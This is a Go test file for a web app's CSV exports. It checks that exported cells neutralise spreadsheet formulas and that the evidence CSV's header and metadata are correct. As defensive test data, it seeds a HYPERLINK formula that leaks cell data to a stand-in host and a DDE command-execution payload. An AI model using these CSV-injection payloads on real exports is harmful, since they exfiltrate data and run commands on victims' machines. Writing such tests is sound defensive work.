package handlers

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"mime"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/jmoiron/sqlx"

	"steward/internal/audit"
	"steward/internal/csvout"
	"steward/internal/reports"
)

// A spreadsheet opening any export must not run a name or an audit detail
// as a formula.
func TestEveryCSVNeutralisesFormulas(t *testing.T) {
	ts := newTestServer(t)
	ctx := context.Background()
	hyperlink := `=HYPERLINK("http://evil.example/?d="&A1,"Open")`
	for email, name := range map[string]string{employeeEmail: hyperlink, "amara.nwosu@example.com": "@SUM(1)"} {
		if _, err := ts.db.Exec(ts.db.Rebind(`UPDATE users SET name = ? WHERE email = ?`), name, email); err != nil {
			t.Fatal(err)
		}
	}
	if err := ts.db.Tx(ctx, func(tx *sqlx.Tx) error {
		return audit.Record(ctx, tx, audit.System.Entry(testStart, "test.hostile", "+cmd|' /C calc'!A0", "-2+3\t@SUM(1)"))
	}); err != nil {
		t.Fatal(err)
	}
	day := testStart.Format(time.DateOnly)
	for _, tc := range []struct {
		who, path string
		want      []string // cells that must be there, neutralised
	}{
		{adminEmail, "/team/report.csv?status=all", []string{"'" + hyperlink, "'@SUM(1)"}},
		{managerEmail, "/team/report.csv?status=all", []string{"'" + hyperlink}},
		{auditorEmail, "/reports/evidence?format=csv&as_of=" + day, []string{"'" + hyperlink, "'@SUM(1)"}},
		{auditorEmail, "/admin/audit.csv", []string{"'+cmd|' /C calc'!A0", "'-2+3\t@SUM(1)"}},
	} {
		res := ts.as(tc.who).get(tc.path)
		res.expect(t, http.StatusOK)
		cells := map[string]bool{}
		for _, row := range readCSV(t, res.Body) {
			for _, c := range row {
				if c != csvout.Cell(c) {
					t.Errorf("%s: live formula %q", tc.path, c)
				}
				cells[c] = true
			}
		}
		for _, w := range tc.want {
			if !cells[w] {
				t.Errorf("%s: no cell %q", tc.path, w)
			}
		}
	}
}

// The evidence CSV is a plain CSV: the header is its first line (after the
// BOM), every row has its columns, and when, by whom and for which day it
// was made are in the response's headers, as in the JSON form's fields.
func TestEvidenceCSVHeaderFirstMetadataBeside(t *testing.T) {
	ts := newTestServer(t)
	if _, err := ts.db.Exec(ts.db.Rebind(`UPDATE users SET name = ? WHERE email = ?`), "Zoë Ødegård", auditorEmail); err != nil {
		t.Fatal(err)
	}
	aud := ts.as(auditorEmail)
	day := testStart.AddDate(0, 0, -1).Format(time.DateOnly)
	res := aud.get("/reports/evidence?format=csv&as_of=" + day)
	res.expect(t, http.StatusOK)
	body, ok := strings.CutPrefix(res.Body, csvout.BOM)
	if !ok {
		t.Fatal("the evidence CSV does not start with a UTF-8 BOM")
	}
	first, _, _ := strings.Cut(body, "\n")
	if first != strings.Join(reports.EvidenceColumns, ",") {
		t.Fatalf("first line %q, want the header", first)
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll() // no Comment: a '#' line would fail the field count
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) < 10 {
		t.Fatalf("%d rows", len(rows))
	}
	var dec mime.WordDecoder
	by, err := dec.DecodeHeader(res.Header.Get("X-Steward-Generated-By"))
	if err != nil {
		t.Fatal(err)
	}
	meta := map[string]string{"as_of": res.Header.Get("X-Steward-As-Of"), "generated_at": res.Header.Get("X-Steward-Generated-At"), "generated_by": by}
	want := map[string]string{"as_of": day, "generated_at": testStart.Format(time.RFC3339), "generated_by": "Zoë Ødegård <auditor@example.com>"}
	for k, v := range want {
		if meta[k] != v {
			t.Errorf("CSV response %s = %q, want %q", k, meta[k], v)
		}
	}

	res = aud.get("/reports/evidence?format=json&as_of=" + day)
	res.expect(t, http.StatusOK)
	var doc map[string]any
	if err := json.Unmarshal([]byte(res.Body), &doc); err != nil {
		t.Fatal(err)
	}
	for k, v := range want {
		if doc[k] != v {
			t.Errorf("JSON %s = %v, want %q", k, doc[k], v)
		}
		if h := map[string]string{"as_of": "X-Steward-As-Of", "generated_at": "X-Steward-Generated-At"}[k]; h != "" && res.Header.Get(h) != v {
			t.Errorf("JSON response %s = %q, want %q", h, res.Header.Get(h), v)
		}
	}
}
